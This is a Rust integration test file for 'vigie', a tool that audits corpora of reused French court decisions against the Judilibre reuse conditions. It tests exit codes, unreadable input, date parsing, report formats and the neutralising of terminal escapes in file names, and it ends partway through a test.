//! End-to-end runs of the binary: exit statuses, bad input, determinism.

use predicates::prelude::*;
use serde_json::{Value, json};
use std::path::{Path, PathBuf};

mod support;
use support::binary::{assert_refused, report_of, vigie, vigie_on};
use support::data::{cc_detail, cc_text, data};

fn clean(id: &str) -> Value {
    json!({
        "id": id, "source_id": "5fca277de35a255d41ca73ab", "text": cc_text(),
        "jurisdiction": "cc", "formation": "comm", "seat": "Paris",
        "decision_date": "2020-11-18", "number": "19-19463",
        "attribution": "Judilibre", "updated_at": "2026-11-21"
    })
}

fn corpus(dir: &Path, lines: &[String]) -> PathBuf {
    let p = dir.join("corpus.jsonl");
    std::fs::write(&p, lines.join("\n") + "\n").unwrap();
    p
}

/// A headless run at a fixed time, writing the JSON report to stdout.
const HEADLESS_JSON: [&str; 5] = [
    "--as-of",
    "2026-11-22T12:00:00Z",
    "--report",
    "json",
    "--quiet",
];

fn run_json(corpus: &Path, extra: &[&str]) -> (i32, Value) {
    let out = vigie_on(corpus, cc_detail())
        .args(HEADLESS_JSON)
        .args(extra)
        .output()
        .unwrap();
    let v: Value = serde_json::from_slice(&out.stdout).unwrap_or_else(|e| {
        panic!(
            "not JSON ({e}): {}\n{}",
            String::from_utf8_lossy(&out.stdout),
            String::from_utf8_lossy(&out.stderr)
        )
    });
    (out.status.code().unwrap(), v)
}

#[test]
fn a_clean_corpus_exits_0() {
    let dir = tempfile::tempdir().unwrap();
    let c = corpus(
        dir.path(),
        &[clean("a").to_string(), clean("b").to_string()],
    );
    let (code, v) = run_json(&c, &[]);
    assert_eq!(code, 0, "{v}");
    assert_eq!(v["summary"]["verdict"], "compliant");
    assert_eq!(v["audit"]["records"], 2);
    assert_eq!(v["audit"]["matched_records"], 2);
    // A nightly job reads `summary.by_penalty.permanent`: 0, not a missing key. Every key of
    // the fixed sets is there, and the rules that fired (none).
    let s = &v["summary"];
    assert_eq!(s["findings"], 0);
    assert_eq!(
        s["by_penalty"],
        json!({"permanent": 0, "temporary": 0, "none": 0})
    );
    assert_eq!(
        s["by_severity"],
        json!({"critical": 0, "high": 0, "medium": 0, "low": 0, "info": 0})
    );
    assert_eq!(
        s["by_family"],
        json!({"integrity": 0, "attribution": 0, "freshness": 0, "masking": 0,
               "profiling": 0, "input": 0})
    );
    assert_eq!(s["by_rule"], json!({}));
}

#[test]
fn malformed_lines_are_accounted_for_and_the_audit_goes_on() {
    let dir = tempfile::tempdir().unwrap();
    let c = corpus(
        dir.path(),
        &[
            clean("a").to_string(),
            "{not json".into(),
            "{\"text\": \"no id\"}".into(),
            "[1, 2]".into(),
            clean("b").to_string(),
        ],
    );
    let (code, v) = run_json(&c, &[]);
    // IN001 carries no penalty: the corpus is compliant but the lines are reported. The line
    // that holds an array is read as its elements, two numbers: an IN001 each.
    assert_eq!(code, 0);
    assert_eq!(v["audit"]["records"], 2);
    assert_eq!(v["audit"]["unreadable_records"], 4);
    let lines: Vec<u64> = v["findings"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|f| f["rule"] == "IN001")
        .map(|f| f["record"]["line"].as_u64().unwrap())
        .collect();
    assert_eq!(lines, vec![2, 3, 4, 4]);
}

/// A corpus of which no record can be read is unusable input (exit 2, whatever `--fail-on`):
/// the report lists its IN001s, but its verdict says nothing of the publication, and a nightly
/// job must not take it for a pass. An empty but valid corpus (`[]`) holds no record to audit.
#[test]
fn a_corpus_with_no_readable_record_is_exit_2() {
    let dir = tempfile::tempdir().unwrap();
    let c = corpus(
        dir.path(),
        &["{not json".into(), "{\"text\": \"no id\"}".into()],
    );
    for fail_on in ["temporary", "never"] {
        let out = vigie_on(&c, cc_detail())
            .args(HEADLESS_JSON)
            .args(["--fail-on", fail_on])
            .output()
            .unwrap();
        assert_eq!(out.status.code(), Some(2));
        let v: Value = serde_json::from_slice(&out.stdout).unwrap();
        assert_eq!(v["audit"]["records"], 0);
        assert_eq!(v["audit"]["unreadable_records"], 2);
        let err = String::from_utf8_lossy(&out.stderr);
        assert!(
            err.contains(
                "no record of the corpus could be read: all 2 of its lines or files are unreadable"
            ),
            "{err}"
        );
        assert!(err.contains("corpus.jsonl: line 1, column 2"), "{err}");
    }
    // An export that wrote an array of nothing holds no record either, as an empty file does:
    // a nightly job must not take it for a compliant corpus.
    let empty = dir.path().join("empty.json");
    std::fs::write(&empty, "\n  [ ]\n").unwrap();
    let (code, v) = run_json(&empty, &[]);
    assert_eq!(code, 2);
    assert_eq!(v["audit"]["records"], 0);
    assert_eq!(v["audit"]["unreadable_records"], 1);
    assert_eq!(v["findings"][0]["rule"], "IN001");
    assert_eq!(v["findings"][0]["record"]["line"], 2);
    assert!(
        v["findings"][0]["message"]
            .as_str()
            .unwrap()
            .contains("column 3: empty JSON array: no record"),
        "{}",
        v["findings"][0]
    );
}

/// A corpus of which no record could be read has no verdict, and no output may say it
/// complies: the JSON report keeps the verdict SPEC §3 works out from the findings (IN001s carry
/// no penalty: `compliant`), beside `conclusive: false`; the text summary gives no verdict; the
/// notice says the audit could not be carried out, with the count of what could not be read,
/// not that it found no breach.
#[test]
fn a_corpus_with_no_readable_record_has_no_verdict_in_any_output() {
    let dir = tempfile::tempdir().unwrap();
    let c = corpus(
        dir.path(),
        &["{not json".into(), "{\"text\": \"no id\"}".into()],
    );
    let out = |format: &str| {
        let out = vigie_on(&c, cc_detail())
            .args([
                "--as-of",
                "2026-11-22T12:00:00Z",
                "--quiet",
                "--report",
                format,
            ])
            .args(["--reuser", "Exemple SAS"])
            .output()
            .unwrap();
        assert_eq!(out.status.code(), Some(2), "{format}");
        String::from_utf8(out.stdout).unwrap()
    };
    let v: Value = serde_json::from_str(&out("json")).unwrap();
    assert_eq!(v["summary"]["verdict"], "compliant");
    assert_eq!(v["summary"]["conclusive"], false);
    let jsonl = out("jsonl");
    let last: Value = serde_json::from_str(jsonl.lines().last().unwrap()).unwrap();
    assert_eq!(last["summary"]["conclusive"], false);
    let text = out("text");
    assert!(
        text.starts_with(
            "vigie: no verdict — no record of the corpus could be read (2 unreadable lines or \
             files, IN001)\n"
        ),
        "{text}"
    );
    assert!(!text.contains("compliant"), "{text}");
    let notice = out("notice").replace('\u{202f}', " ");
    assert!(
        notice.starts_with("# Projet de lettre — audit de conformité"),
        "{notice}"
    );
    assert!(notice.contains("**Objet :** Audit de conformité aux conditions générales de réutilisation des décisions de justice diffusées en open data — audit impossible, aucun enregistrement lisible\n"), "{notice}");
    assert!(notice.contains("Un audit de votre base, arrêté au 22 novembre 2026, n'a pu être mené à bien : aucun de ses enregistrements n'a pu être lu (2 lignes ou fichiers illisibles, détaillés ci-après). Faute d'enregistrement examiné, cet audit ne permet de constater ni le respect ni la méconnaissance des conditions de réutilisation qui vous sont applicables."), "{notice}");
    assert!(
        notice.contains("\n## 1. Entrées illisibles de la base (2 constats)\n"),
        "{notice}"
    );
    assert!(
        notice.contains("- **IN001** — enregistrement illisible — 2 constats"),
        "{notice}"
    );
    for said in [
        "absence de manquement",
        "aucun manquement",
        "Mise en demeure",
        "## 2.",
    ] {
        assert!(!notice.contains(said), "{said}: {notice}");
    }
    // One readable record is enough for a verdict, and the letter to say what it found.
    std::fs::write(&c, format!("{{not json\n{}\n", clean("a"))).unwrap();
    let (code, v) = run_json(&c, &[]);
    assert_eq!(code, 0);
    assert_eq!(v["summary"]["conclusive"], true);
    let notice = report_of(&c, &cc_detail(), "notice", &[]).replace('\u{202f}', " ");
    assert!(notice.contains("— absence de manquement"), "{notice}");
    assert!(notice.contains("a porté sur 1 enregistrement (1 rapproché d'une décision de la source officielle ; 1 illisible)."), "{notice}");
}

#[test]
fn breaches_exit_1_and_fail_on_moves_the_threshold() {
    let dir = tempfile::tempdir().unwrap();
    let mut r = clean("a");
    r.as_object_mut().unwrap().remove("attribution");
    let c = corpus(dir.path(), &[r.to_string()]);
    let (code, v) = run_json(&c, &[]);
    assert_eq!(code, 1);
    assert_eq!(v["summary"]["verdict"], "temporary");
    let (code, _) = run_json(&c, &["--fail-on", "permanent"]);
    assert_eq!(code, 0);
    let (code, _) = run_json(&c, &["--fail-on", "never"]);
    assert_eq!(code, 0);
}

#[test]
fn the_report_does_not_depend_on_the_number_of_threads() {
    let dir = tempfile::tempdir().unwrap();
    let mut lines = Vec::new();
    for i in 0..60 {
        let mut r = clean(&format!("r{i}"));
        match i % 6 {
            1 => {
                r.as_object_mut().unwrap().remove("attribution");
            }
            2 => r["text"] = json!(cc_text().replacen("Rejet", "Cassation", 1)),
            3 => r["id"] = json!("r1"),
            4 => lines.push("garbage".to_string()),
            _ => {}
        }
        lines.push(r.to_string());
    }
    let c = corpus(dir.path(), &lines);
    let strip = |mut v: Value| {
        v["audit"]["elapsed_ms"] = json!(0);
        serde_json::to_string(&v).unwrap()
    };
    let (_, one) = run_json(&c, &["--jobs", "1"]);
    let (_, two) = run_json(&c, &["--jobs", "2"]);
    let (_, eight) = run_json(&c, &["--jobs", "8"]);
    assert!(one["findings"].as_array().unwrap().len() > 20);
    let one = strip(one);
    assert_eq!(one, strip(two));
    assert_eq!(one, strip(eight));
}

#[test]
fn a_missing_reference_is_exit_2_naming_it() {
    let dir = tempfile::tempdir().unwrap();
    let c = corpus(dir.path(), &[clean("a").to_string()]);
    assert_refused(
        &mut vigie_on(&c, "/nonexistent/judilibre"),
        "/nonexistent/judilibre",
    );
}

/// Offsets within a record are 32-bit: a record limit of 4 GiB or more is refused as bad usage.
#[test]
fn a_record_limit_past_4_gib_is_exit_2() {
    let dir = tempfile::tempdir().unwrap();
    let c = corpus(dir.path(), &[clean("a").to_string()]);
    for mib in ["4096", "0"] {
        assert_refused(
            vigie().arg(&c).args(["--max-record-mib", mib]),
            "--max-record-mib",
        );
    }
}

#[test]
fn a_bad_mapping_is_exit_2_with_line_and_column() {
    let dir = tempfile::tempdir().unwrap();
    let c = corpus(dir.path(), &[clean("a").to_string()]);
    let m = dir.path().join("m.toml");
    std::fs::write(&m, "[fields]\ntext = \"body\"\ntexte = \"x\"\n").unwrap();
    assert_refused(vigie().arg(&c).arg("--mapping").arg(&m), "m.toml:3:1");
    // A default `excerpt` that is not a boolean was taken as true: it is a bad mapping.
    for (value, kind) in [("\"yes\"", "a string (\"yes\")"), ("7", "an integer (7)")] {
        std::fs::write(
            &m,
            format!("[fields]\ntext = \"text\"\n[defaults]\nexcerpt = {value}\n"),
        )
        .unwrap();
        let said = format!(
            "m.toml:4:1: `excerpt` in [defaults] must be a boolean, true or false (without \
             quotes), not {kind}"
        );
        assert_refused(vigie().arg(&c).arg("--mapping").arg(&m), &said).stdout("");
    }
}

#[test]
fn rules_and_explain() {
    vigie().arg("rules").assert().success().stdout(
        predicate::str::contains("MSK001").and(predicate::str::contains("occultation-lifted")),
    );
    vigie()
        .args(["explain", "msk001"])
        .assert()
        .success()
        .stdout(predicate::str::contains("R. 111-13").or(predicate::str::contains("L. 111-13")));
    vigie().args(["explain", "XYZ999"]).assert().code(2);
}

#[test]
fn output_is_written_atomically_and_a_missing_folder_is_exit_2() {
    let dir = tempfile::tempdir().unwrap();
    let c = corpus(dir.path(), &[clean("a").to_string()]);
    let out = dir.path().join("report.json");
    vigie_on(&c, cc_detail())
        .args([
            "--as-of",
            "2026-11-22T12:00:00Z",
            "--report",
            "json",
            "--output",
        ])
        .arg(&out)
        .assert()
        .code(0);
    let v: Value = serde_json::from_slice(&std::fs::read(&out).unwrap()).unwrap();
    assert_eq!(v["vigie_report"], 1);
    let missing = dir.path().join("no/such/folder/report.json");
    vigie_on(&c, cc_detail())
        .args(["--report", "json", "--output"])
        .arg(&missing)
        .assert()
        .code(2)
        .stderr(predicate::str::contains("no/such/folder"));
    assert_eq!(
        std::fs::read_dir(dir.path()).unwrap().count(),
        2,
        "no temporary file left"
    );
}

/// The README's first command is `cargo run --release -- …`: with two binaries in the package,
/// `cargo run` needs `default-run` to know it is the auditor's. The command's arguments are
/// those of the demo, which the other tests audit.
#[test]
fn the_readme_demo_command_runs_the_auditor() {
    let root = Path::new(env!("CARGO_MANIFEST_DIR"));
    let readme = std::fs::read_to_string(root.join("README.md")).unwrap();
    let first = readme
        .lines()
        .find(|l| l.starts_with("cargo "))
        .expect("a command in the README");
    assert!(
        first.starts_with("cargo run --release -- assets/demo/corpus.jsonl"),
        "{first}"
    );
    let manifest = std::fs::read_to_string(root.join("Cargo.toml")).unwrap();
    let package = manifest.split("\n[").next().unwrap();
    assert!(
        package
            .lines()
            .any(|l| l.trim() == "default-run = \"vigie\""),
        "Cargo.toml's [package] names no default binary"
    );
    // And the demo's arguments give the demo's audit.
    let args: Vec<&str> = first
        .trim_start_matches("cargo run --release -- ")
        .split_whitespace()
        .collect();
    vigie()
        .current_dir(root)
        .args(&args)
        .args(["--report", "text"])
        .assert()
        .code(1)
        .stdout(predicate::str::contains("25 findings"));
}

// A corpus exported compressed (`records.jsonl.gz`, or a folder of them) is read as its content:
// the demo's audit, record for record, the findings at the same lines, under the file's own name.
#[test]
fn a_gzip_compressed_corpus_gives_the_audit_of_its_content() {
    use std::io::Write;
    let root = Path::new(env!("CARGO_MANIFEST_DIR"));
    let demo = root.join("assets/demo/corpus.jsonl");
    let dir = tempfile::tempdir().unwrap();
    let gz = dir.path().join("records.jsonl.gz");
    let mut e = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
    e.write_all(&std::fs::read(&demo).unwrap()).unwrap();
    std::fs::write(&gz, e.finish().unwrap()).unwrap();
    let run = |corpus: &Path| -> Value {
        let out = vigie_on(corpus, root.join("assets/demo/reference"))
            .arg("--history")
            .arg(root.join("assets/demo/history.json"))
            .args(HEADLESS_JSON)
            .args(["--fail-on", "never"])
            .output()
            .unwrap();
        assert_eq!(out.status.code(), Some(0));
        serde_json::from_slice(&out.stdout).unwrap()
    };
    let findings = |v: &Value| -> Vec<(String, String, u64, String)> {
        v["findings"]
            .as_array()
            .unwrap()
            .iter()
            .map(|f| {
                (
                    f["rule"].as_str().unwrap().to_string(),
                    // The corpus-level FRE003 has no record.
                    f["record"]["file"].as_str().unwrap_or("").to_string(),
                    f["record"]["line"].as_u64().unwrap_or(0),
                    f["message"].as_str().unwrap().to_string(),
                )
            })
            .collect()
    };
    let plain = run(&demo);
    // The demo's 60 lines: 59 records, line 46 broken (README of assets/demo).
    assert_eq!(plain["audit"]["records"], 59);
    assert_eq!(plain["audit"]["unreadable_records"], 1);
    let want = findings(&plain);
    assert_eq!(want.len(), 25);
    for corpus in [gz.clone(), dir.path().to_path_buf()] {
        let v = run(&corpus);
        assert_eq!(v["audit"]["records"], 59);
        assert_eq!(
            v["audit"]["matched_records"],
            plain["audit"]["matched_records"]
        );
        let got = findings(&v);
        assert_eq!(got.len(), want.len());
        for (g, w) in got.iter().zip(&want) {
            // A message may name the file (IN002: where the id was seen first).
            let message = |f: &(String, String, u64, String)| match f.1.as_str() {
                "" => f.3.clone(),
                file => f.3.replace(file, "FILE"),
            };
            assert_eq!((&g.0, g.2, message(g)), (&w.0, w.2, message(w)));
            assert_eq!(g.1.is_empty(), w.1.is_empty());
            assert!(
                g.1.is_empty() || g.1.ends_with("records.jsonl.gz"),
                "{}",
                g.1
            );
        }
    }
}

// `--report` decides the format of `--output`, but a name telling another format is most likely
// a slip: it is said on stderr, before the audit, and the report is written as asked.
#[test]
fn an_output_named_for_another_format_is_warned_of() {
    let dir = tempfile::tempdir().unwrap();
    let c = corpus(dir.path(), &[clean("r1").to_string()]);
    let run = |format: &str, name: &str| {
        let out_path = dir.path().join(name);
        let out = vigie_on(&c, cc_detail())
            .args([
                "--as-of",
                "2026-11-22T12:00:00Z",
                "--quiet",
                "--report",
                format,
                "-o",
            ])
            .arg(&out_path)
            .output()
            .unwrap();
        assert_eq!(out.status.code(), Some(0));
        let written = std::fs::read_to_string(&out_path).unwrap();
        (String::from_utf8(out.stderr).unwrap(), written, out_path)
    };
    let (stderr, written, path) = run("csv", "report.json");
    assert_eq!(
        stderr,
        format!(
            "vigie: warning: --output {} gets the report --report csv asks for, though its name \
             tells json\n",
            path.display()
        )
    );
    assert!(written.starts_with("fingerprint,rule,"), "{written}");
    // Names that tell the same format, or none, or in capitals: nothing to say.
    for (format, name) in [
        ("jsonl", "report.ndjson"),
        ("json", "REPORT.JSON"),
        ("csv", "out"),
    ] {
        let (stderr, _, _) = run(format, name);
        assert_eq!(stderr, "", "{format} {name}");
    }
    let (stderr, written, _) = run("notice", "notice.txt");
    assert!(stderr.ends_with("though its name tells text\n"), "{stderr}");
    // The notice, as asked (the corpus is clean: a letter, not a formal notice).
    assert!(written.starts_with("# Projet de lettre"), "{written}");
}

// A reference made of a full export and a later increment holds a decision twice: the version
// updated later is the one the record is checked against, the report counts the decision once,
// and stderr names the version set aside and the one used.
#[test]
fn a_decision_read_twice_is_counted_once_and_its_older_version_named() {
    let dir = tempfile::tempdir().unwrap();
    let (full, delta) = (dir.path().join("full"), dir.path().join("delta"));
    std::fs::create_dir(&full).unwrap();
    std::fs::create_dir(&delta).unwrap();
    let latest: Value = serde_json::from_slice(&std::fs::read(cc_detail()).unwrap()).unwrap();
    assert_eq!(latest["update_date"], "2021-11-30");
    // The older version: its text was corrected since.
    let mut older = latest.clone();
    older["update_date"] = json!("2021-06-01");
    older["text"] = json!(format!("{} Texte provisoire.", cc_text()));
    std::fs::write(full.join("export.json"), older.to_string()).unwrap();
    std::fs::write(delta.join("update.json"), latest.to_string()).unwrap();
    let c = corpus(dir.path(), &[clean("r1").to_string()]);
    let run = || {
        let out = vigie_on(&c, &full)
            .arg("--reference")
            .arg(&delta)
            .args(HEADLESS_JSON)
            .output()
            .unwrap();
        let stderr = String::from_utf8(out.stderr).unwrap();
        assert_eq!(out.status.code(), Some(0), "{stderr}");
        let report: Value = serde_json::from_slice(&out.stdout).unwrap();
        (report, stderr)
    };
    let (report, stderr) = run();
    // Checked against the corrected text, which it reproduces: nothing to report (exit 0).
    assert_eq!(report["findings"], json!([]));
    assert_eq!(report["audit"]["reference_decisions"], 1);
    assert_eq!(report["audit"]["matched_records"], 1);
    // The report lists the version set aside, with the one used.
    assert_eq!(
        report["audit"]["superseded_reference"],
        json!([{
            "file": full.join("export.json").display().to_string(),
            "line": 1,
            "id": "5fca277de35a255d41ca73ab",
            "update_date": "2021-05-31T22:00:00Z",
            "published": null,
            "used": {
                "file": delta.join("update.json").display().to_string(),
                "line": 1,
                "update_date": "2021-11-29T23:00:00Z",
                "published": null
            }
        }])
    );
    let lines: Vec<&str> = stderr.lines().collect();
    assert_eq!(lines.len(), 2, "{stderr}");
    assert!(
        lines[0].starts_with(
            "vigie: warning: 1 version of reference decisions read more than once was set aside"
        ),
        "{stderr}"
    );
    assert_eq!(
        lines[1],
        format!(
            "  {}:1 (updated 2021-06-01 00:00 CEST, id 5fca277de35a255d41ca73ab): set aside for \
             {}:1 (updated 2021-11-30 00:00 CET)",
            full.join("export.json").display(),
            delta.join("update.json").display()
        )
    );
    // The same version twice, updated at the same time: nothing tells which is later, and the
    // line says so; the first by name ("delta" before "full") is used.
    std::fs::write(full.join("export.json"), latest.to_string()).unwrap();
    let (_, stderr) = run();
    assert_eq!(
        stderr.lines().nth(1).unwrap(),
        format!(
            "  {}:1 (updated 2021-11-30 00:00 CET, id 5fca277de35a255d41ca73ab): set aside for \
             {}:1 (updated at the same time, first by name)",
            full.join("export.json").display(),
            delta.join("update.json").display()
        )
    );
}

// Reference decisions that cannot be read are counted in the report and named on stderr, with
// the line and the reason, the first five of them; a file name cannot put a control character
// on the terminal. The audit goes on against the decisions that were read.
#[test]
fn unreadable_reference_decisions_are_named_on_stderr() {
    let dir = tempfile::tempdir().unwrap();
    let reference = dir.path().join("reference");
    std::fs::create_dir(&reference).unwrap();
    std::fs::copy(cc_detail(), reference.join("a-good.json")).unwrap();
    // Line 1 is cut short, line 2 is not JSON, line 4 is not an object; line 3 is a decision.
    std::fs::write(
        reference.join("b-bad\u{1b}[31m.jsonl"),
        "{\"id\":\"zz1\",\"text\":\"x\"\n{nope\n{\"id\":\"zz2\",\"text\":\"y\"}\n\"just a string\"\n",
    )
    .unwrap();
    let c = corpus(dir.path(), &[clean("r1").to_string()]);
    let run = |reference: &Path| {
        vigie_on(&c, reference)
            .args(HEADLESS_JSON)
            .output()
            .unwrap()
    };
    let out = run(&reference);
    let stderr = String::from_utf8(out.stderr).unwrap();
    let report: Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(out.status.code(), Some(0), "{stderr}");
    assert_eq!(report["audit"]["reference_decisions"], 2);
    assert_eq!(report["audit"]["unreadable_reference_decisions"], 3);
    assert_eq!(report["audit"]["matched_records"], 1);
    assert!(!stderr.contains('\u{1b}'), "{stderr:?}");
    let lines: Vec<&str> = stderr.lines().collect();
    assert_eq!(lines.len(), 4, "{stderr}");
    assert!(
        lines[0].starts_with("vigie: warning: 3 reference decisions could not be read"),
        "{stderr}"
    );
    let bad = reference
        .join("b-bad\u{241b}[31m.jsonl")
        .display()
        .to_string();
    for (line, n) in lines[1..].iter().zip([1, 2, 4]) {
        assert!(line.starts_with(&format!("  {bad}:{n}: ")), "{line}");
    }
    assert!(lines[2].contains("bad JSON"), "{stderr}");
    // The report lists them too, with their lines, in the order of the files.
    let listed: Vec<(String, Value)> = report["audit"]["unreadable_reference"]
        .as_array()
        .unwrap()
        .iter()
        .map(|u| (u["file"].as_str().unwrap().to_string(), u["line"].clone()))
        .collect();
    let raw_bad = reference
        .join("b-bad\u{1b}[31m.jsonl")
        .display()
        .to_string();
    assert_eq!(
        listed,
        [1, 2, 4]
            .map(|n| (raw_bad.clone(), Value::from(n)))
            .to_vec()
    );
    // The text report names them, the escape made harmless.
    let text_report = |reference: &Path| {
        let out = vigie_on(&c, reference)
            .args(["--report", "text", "--quiet"])
            .args(["--as-of", "2026-11-22T12:00:00Z"])
            .output()
            .unwrap();
        String::from_utf8(out.stdout).unwrap()
    };
    let text = text_report(&reference);
    assert!(!text.contains('\u{1b}'), "{text:?}");
    assert!(
        text.contains(&format!("reference decisions not read: 3\n  {bad}:1: ")),
        "{text}"
    );

    // Past five, the rest are counted.
    let many: String = (0..8).map(|i| format!("{{bad {i}\n")).collect();
    std::fs::write(reference.join("c-worse.jsonl"), many).unwrap();
    let stderr = String::from_utf8(run(&reference).stderr).unwrap();
    assert!(
        stderr.starts_with("vigie: warning: 11 reference decisions"),
        "{stderr}"
    );
    assert_eq!(stderr.lines().count(), 7, "{stderr}");
    assert!(stderr.ends_with("  and 6 more\n"), "{stderr}");
    let text = text_report(&reference);
    assert!(
        text.contains("reference decisions not read: 11\n"),
        "{text}"
    );
    assert!(
        text.contains("\n  and 6 more (--report json lists them all)\n"),
        "{text}"
    );
}

/// Arguments that cannot be honoured are exit 2 with a message, not a silent guess or a crash:
/// an `--as-of` whose time is no time (it was read as the date before it), more threads than
/// vigie starts (100,000 aborted the process), and a path typed with an escape sequence, which
/// the message quotes without letting it reach the terminal.
#[test]
fn bad_arguments_are_exit_2_with_a_safe_message() {
    let dir = tempfile::tempdir().unwrap();
    let c = corpus(dir.path(), &[clean("a").to_string()]);
    let with = |args: &[&str]| {
        vigie_on(&c, cc_detail())
            .args(["--report", "json", "--quiet"])
            .args(args)
            .output()
            .unwrap()
    };
    for bad in [
        "2026-11-22T25:00:00Z",
        "2026-11-22T12:61:00Z",
        "2026-11-22T",
        // An offset of a day or more: no audit time (RFC 3339 stops at ±23:59).
        "2026-11-22T12:00:00+25:00",
        "2026-11-22T12:00:00-24:00",
        "9999-13-01",
        "31/02/2026",
    ] {
        let out = with(&["--as-of", bad]);
        assert_eq!(out.status.code(), Some(2), "{bad}");
        let err = String::from_utf8_lossy(&out.stderr);
        assert!(err.contains("is not a date or date-time"), "{bad}: {err}");
    }
    // Dates the calendar has, outside what vigie can date: the message gives the range. The
    // year 0 is a typing error; 9999-12-31 at midnight in France is 9999-12-30T23:00Z, after
    // jiff's last instant.
    for far in [
        "0000-01-01",
        "9999-12-31",
        "31 décembre 9999",
        "31/12/9999",
        "9999-12-30T22:00:01Z",
        "12026-01-01",
    ] {
        let out = with(&["--as-of", far]);
        assert_eq!(out.status.code(), Some(2), "{far}");
        let err = String::from_utf8_lossy(&out.stderr);
        assert!(
            err.contains(&format!(
                "--as-of `{far}` is outside the range of audit times vigie can date: from \
                 0001-01-01 (midnight in France) to 9999-12-30T22:00:00Z, the last instant its \
                 date library represents (a date alone: up to 9999-12-30)"
            )),
            "{far}: {err}"
        );
    }
    // Within it, however far: 1900 and 1970 were refused as "not a date" while 2200 was taken.
    for (far, as_of) in [
        // Paris time was Paris mean time (UTC+0:09:21) until 1911.
        ("1900-01-01", "1899-12-31T23:50:39Z"),
        ("1970-01-01", "1969-12-31T23:00:00Z"),
        ("0001-01-01T00:00:00Z", "0001-01-01T00:00:00Z"),
        ("2200-01-01", "2199-12-31T23:00:00Z"),
        ("9999-12-30", "9999-12-29T23:00:00Z"),
        ("9999-12-30T22:00:00Z", "9999-12-30T22:00:00Z"),
    ] {
        let out = with(&["--as-of", far, "--fail-on", "never"]);
        assert_eq!(
            out.status.code(),
            Some(0),
            "{far}: {}",
            String::from_utf8_lossy(&out.stderr)
        );
        let v: Value = serde_json::from_slice(&out.stdout).unwrap();
        assert_eq!(v["audit"]["as_of"], as_of, "{far}");
    }
    for good in [
        "2026-11-22T12:00:00Z",
        "2026-11-22T12:00:00-05:30",
        "2026-11-22",
        "5 octobre 2026",
        "1er août 2026",
    ] {
        // Read, whatever the findings: before 2026-11-20, the records' `updated_at`
        // (2026-11-21) is more than a day after the audit time, an FRE001.
        assert_eq!(
            with(&["--as-of", good, "--fail-on", "never"]).status.code(),
            Some(0),
            "{good}"
        );
    }
    let out = with(&["--jobs", "100000"]);
    assert_eq!(out.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&out.stderr).contains("at most 1024"));
    assert_eq!(
        with(&["--jobs", "64", "--as-of", "2026-11-22T12:00:00Z"])
            .status
            .code(),
        Some(0)
    );
    let out = vigie_on(dir.path().join("\u{1b}[31mred.jsonl"), cc_detail())
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(2));
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(!err.contains('\u{1b}'), "{err:?}");
    assert!(
        err.contains("␛[31mred.jsonl: no such file or folder"),
        "{err:?}"
    );
}

/// `-` reads the corpus from standard input, as a pipe.
#[cfg(unix)]
#[test]
fn a_dash_reads_the_corpus_from_standard_input() {
    let lines = format!("{}\n{{not json\n{}\n", clean("a"), clean("b"));
    let out = vigie_on("-", cc_detail())
        .args(HEADLESS_JSON)
        .write_stdin(lines)
        .output()
        .unwrap();
    assert_eq!(
        out.status.code(),
        Some(0),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let v: Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(v["audit"]["records"], 2);
    assert_eq!(v["audit"]["unreadable_records"], 1);
    assert_eq!(v["findings"][0]["record"]["line"], 2);
    // Named as standard input, not as the device it is read through (`/dev/stdin`), nor `-`,
    // which CSV would quote as `'-`.
    assert_eq!(v["audit"]["corpus"], json!(["(standard input)"]));
    assert_eq!(v["findings"][0]["record"]["file"], "(standard input)");
    let text = vigie_on("-", cc_detail())
        .args(["--as-of", "2026-11-22T12:00:00Z", "--report", "text"])
        .write_stdin(format!("{{not json\n{}\n", clean("a")))
        .output()
        .unwrap();
    let text = String::from_utf8_lossy(&text.stdout);
    assert!(text.contains("\n(standard input):1 IN001 "), "{text}");
    assert!(!text.contains("/dev/stdin"), "{text}");
    // Standard input can be read once: `- -` is an error, not its records twice.
    let out = vigie()
        .args(["-", "-", "--reference"])
        .arg(cc_detail())
        .args(HEADLESS_JSON)
        .write_stdin(format!("{}\n", clean("a")))
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&out.stderr).contains("more than once"));
}

/// Audits `c` against the Judilibre sample with `history` written to `h`, headless in JSON.
fn audit_with_history(c: &Path, h: &Path, history: &str) -> std::process::Output {
    std::fs::write(h, history).unwrap();
    vigie_on(c, cc_detail())
        .arg("--history")
        .arg(h)
        .args(HEADLESS_JSON)
        .output()
        .unwrap()
}

/// A history transaction that cannot be read is left out and said on stderr; a history of which
/// none can be read is unusable input.
#[test]
fn unreadable_history_transactions_are_told() {
    let dir = tempfile::tempdir().unwrap();
    let c = corpus(dir.path(), &[clean("a").to_string()]);
    let h = dir.path().join("history.json");
    let run = |history: &str| audit_with_history(&c, &h, history);
    let out = run(
        r#"{"transactions":[{"id":"x","action":"created","date":"2026-11-01"},{"id":"y","action":"zapped"}]}"#,
    );
    assert_eq!(out.status.code(), Some(0));
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(
        err.contains("warning: 1 transaction of the history could not be read and was left out"),
        "{err}"
    );
    assert!(err.contains("history.json:1:"), "{err}");
    let out = run("[1, 2]");
    assert_eq!(out.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&out.stderr).contains("no transaction of the history"));
}

/// The audit looks at the source as of `--as-of`: a withdrawal dated after it had not happened
/// then. It is set aside and said on stderr; the same withdrawal dated before is FRE004.
#[test]
fn history_after_the_audit_time_is_set_aside() {
    let dir = tempfile::tempdir().unwrap();
    let c = corpus(dir.path(), &[clean("a").to_string()]);
    let h = dir.path().join("history.json");
    let run = |date: &str| {
        let history = json!({"transactions": [
            {"id": "5fca277de35a255d41ca73ab", "action": "created", "date": "2020-11-20"},
            {"id": "5fca277de35a255d41ca73ab", "action": "deleted", "date": date},
        ]});
        let out = audit_with_history(&c, &h, &history.to_string());
        let v: Value = serde_json::from_slice(&out.stdout).unwrap();
        let rules: Vec<String> = v["findings"]
            .as_array()
            .unwrap()
            .iter()
            .map(|f| {
                format!(
                    "{} {}",
                    f["rule"].as_str().unwrap(),
                    f["message"].as_str().unwrap()
                )
